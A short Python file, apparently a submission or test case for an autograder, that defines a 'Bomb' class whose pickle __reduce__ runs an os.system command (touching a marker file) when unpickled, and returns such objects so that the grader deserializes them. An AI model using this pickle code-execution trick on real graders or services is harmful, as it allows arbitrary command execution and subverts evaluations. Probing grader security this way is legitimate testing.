"""Returns, shows and displays objects whose unpickling or printing would run a command in the grader."""

# %%
import os
import pickle


class Bomb:
    __reduce__ = lambda self: (os.system, ("touch CLASS/descent_attack_unpickled",))
    __repr__ = __str__ = lambda self: pickle.dumps(self, 0).decode("latin-1")


Bomb()

# %% answers
return [Bomb(), np.array([Bomb()], dtype=object), pickle.dumps(Bomb(), 0)]
